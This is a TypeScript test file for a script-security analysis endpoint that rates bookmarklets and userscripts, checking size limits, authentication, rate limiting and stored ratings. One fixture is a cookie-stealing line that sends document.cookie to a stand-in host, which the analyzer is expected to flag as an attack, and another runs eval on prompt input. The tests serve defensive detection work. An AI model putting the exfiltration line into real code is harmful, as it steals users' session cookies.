import { fail, succeed } from "@scriptorium/core-types/errors";
import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { describe, expect, it } from "vitest";
import { withAnswers } from "../_shared/rating/with-answers.ts";
import { handleAnalyzeSecurity } from "./handler.ts";
import { ask, makePorts, personId, rated, sessionToken, versionId } from "./ports.test-support.ts";

const signedIn = { Authorization: `Bearer ${sessionToken}` };
const visitor = { Authorization: "Bearer sb_publishable_test", "cf-connecting-ip": "203.0.113.7" };

describe("code", () => {
	it("is answered and not stored, and counted against who asks", async () => {
		const fixture = makePorts();
		const answered = await ask(fixture, { code: "alert(1)", title: "Hello" }, visitor);
		expect(answered).toEqual({ status: 200, body: withAnswers(rated({ summary: "About Hello." }), "bookmarklet") });
		expect((await ask(fixture, { code: "alert(1)" }, signedIn)).body).toEqual(
			withAnswers(rated({ summary: "About nothing." }), "bookmarklet"),
		);
		expect(fixture.recorded).toEqual([]);
		expect(fixture.counted).toMatchObject([
			{ person: null, headers: { "cf-connecting-ip": "203.0.113.7" } },
			{ person: personId },
		]);
	});

	it("is answered with access and verdict, for a userscript by where it runs", async () => {
		const userscript = "// ==UserScript==\n// @name A\n// @match https://a.test/*\n// ==/UserScript==\neval(prompt())";
		const fixture = makePorts({ ports: { analyzer: { rulesVersion: "test-1", analyze: analyzeScript } } });
		expect((await ask(fixture, { code: userscript })).body).toMatchObject({
			risk_level: "amber",
			access: { sites: "this-site", site_names: ["a.test"], code: "none", reads: [] },
			verdict: { kind: "worth-a-look", part: null },
		});
		const read = await ask(fixture, { code: "fetch('https://c.test/' + document.cookie)" });
		expect(read.body).toMatchObject({
			access: { sites: "this-site", site_names: [], reads: ["cookies"], contacts: ["c.test"] },
			verdict: { kind: "attack", grounds: [{ type: "cookie-exfiltration" }] },
		});
		expect((await ask(fixture, { code: "let = (;;;" })).body).toMatchObject({
			access: null,
			verdict: { kind: "unread" },
		});
	});

	it("is answered to a visitor of a project whose public key is itself a token", async () => {
		const fixture = makePorts({ ports: { publishableKey: "old.public.key" } });
		expect((await ask(fixture, { code: "alert(1)" }, { Authorization: "Bearer old.public.key" })).status).toBe(200);
		expect(fixture.counted).toMatchObject([{ person: null }]);
	});

	it.each([
		["too short", { code: "  ab  " }, 400, "code_too_short", "Code must be at least 5 characters."],
		["too long in bytes", { code: "é".repeat(2_200_000) }, 413, "code_too_long", "Code must not be larger than 4 MB."],
		["a body beyond all bounds", "x".repeat(25_400_000), 413, "code_too_long", "Code must not be larger than 4 MB."],
		["no JSON", "{", 400, "invalid_request", "Send code, or the version_id of a saved version."],
		["no request", { source: "x" }, 400, "invalid_request", "Send code, or the version_id of a saved version."],
		["a list", [], 400, "invalid_request", "Send code, or the version_id of a saved version."],
		["no id", { version_id: "1" }, 400, "invalid_request", "Send code, or the version_id of a saved version."],
	])("is refused: %s", async (_name, body, status, code, error) => {
		const fixture = makePorts();
		expect(await ask(fixture, body)).toMatchObject({ status, body: { error, code, status } });
		expect(fixture.counted).toEqual([]);
	});

	it("of exactly 4 MB, all of it escaped, is read", async () => {
		expect((await ask(makePorts(), { code: "\u0001".repeat(4_194_304) })).status).toBe(200);
	});

	it("waits when too much is asked", async () => {
		const beginAnalysis = async () => fail("rate_limited", "Too many requests. Try again in 2 seconds.", "{}");
		const answered = await ask(makePorts({ store: { beginAnalysis } }), { code: "alert(1)" });
		expect(answered).toMatchObject({ status: 429, body: { code: "rate_limited", details: "{}" } });
	});

	it("that breaks the analyzer is 'Not rated'", async () => {
		const analyze = () => {
			throw new Error("broken");
		};
		const fixture = makePorts({ ports: { analyzer: { rulesVersion: "test-1", analyze } } });
		expect(await ask(fixture, { code: "alert(1)" })).toMatchObject({
			status: 200,
			body: { risk_level: "unrated", score: 0, rules_version: "test-1" },
		});
	});
});

describe("a version", () => {
	it("is rated and stored for whoever sees it", async () => {
		const fixture = makePorts();
		const result = rated({ summary: "About Sample." });
		expect(await ask(fixture, { version_id: versionId }, signedIn)).toEqual({
			status: 200,
			body: withAnswers(result, "bookmarklet"),
		});
		expect(fixture.recorded).toEqual([{ versionId, result, error: null }]);
	});

	it("that the caller does not see is not there, and is counted all the same", async () => {
		const fixture = makePorts();
		expect(await ask(fixture, { version_id: versionId }, visitor)).toMatchObject({
			status: 404,
			body: { code: "version_not_found" },
		});
		expect([fixture.recorded.length, fixture.counted.length]).toEqual([0, 1]);
	});

	it("that these rules have rated is answered as it is", async () => {
		const report = rated({ risk_level: "red", score: 3 });
		const beginAnalysis = async () => succeed({ code: "void 0;", title: "Sample", report });
		const fixture = makePorts({ store: { beginAnalysis } });
		expect((await ask(fixture, { version_id: versionId }, signedIn)).body).toEqual(withAnswers(report, "bookmarklet"));
		expect(fixture.recorded).toEqual([]);
	});

	it("on which the analyzer breaks is stored as unrated, with the reason for administrators", async () => {
		const analyze = () => {
			throw new Error("broken");
		};
		const fixture = makePorts({ ports: { analyzer: { rulesVersion: "test-1", analyze } } });
		expect((await ask(fixture, { version_id: versionId }, signedIn)).status).toBe(200);
		expect(fixture.recorded).toMatchObject([{ error: "broken", result: { risk_level: "unrated", score: 0 } }]);
	});

	it("is not rated for a session that has ended", async () => {
		const fixture = makePorts();
		const answered = await ask(fixture, { version_id: versionId }, { Authorization: "Bearer some.old.token" });
		expect(answered).toMatchObject({ status: 401, body: { code: "unauthenticated", error: "Please sign in again." } });
	});
});

it("answers a preflight, and nothing but POST", async () => {
	const { ports } = makePorts();
	const send = (method: string) => handleAnalyzeSecurity(new Request("http://localhost/", { method }), ports);
	const preflight = await send("OPTIONS");
	expect([preflight.status, preflight.headers.get("Access-Control-Allow-Methods")]).toEqual([204, "POST, OPTIONS"]);
	expect((await send("GET")).status).toBe(405);
});
